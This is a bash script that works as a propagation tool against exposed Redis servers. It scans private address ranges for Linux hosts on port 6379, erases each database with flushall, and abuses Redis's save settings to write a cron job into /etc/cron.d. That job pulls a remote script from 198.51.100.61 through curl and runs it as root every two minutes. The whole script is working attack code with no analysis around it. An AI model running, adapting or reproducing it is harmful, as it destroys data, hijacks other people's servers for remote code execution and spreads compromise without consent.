#!/bin/bash
# payload served from our host
P='*/2 * * * * root curl -fsSL http://198.51.100.61/r.sh | sh'
for net in 172.16 10.10; do
  pnscan -t512 -R '6f 73 3a 4c 69 6e 75 78' -W '2a 31 0d 0a 24 34 0d 0a 69 6e 66 6f 0d 0a' $net.0.0/16 6379 > .r.txt
  awk '/Linux/ {print $1}' .r.txt | sort -u | while read ip; do
    redis-cli -h $ip -p 6379 flushall
    redis-cli -h $ip -p 6379 set backup1 "\n\n$P\n\n"
    redis-cli -h $ip -p 6379 config set dir /etc/cron.d
    redis-cli -h $ip -p 6379 config set dbfilename sysupd
    redis-cli -h $ip -p 6379 save
  done
done
rm -f .r.txt
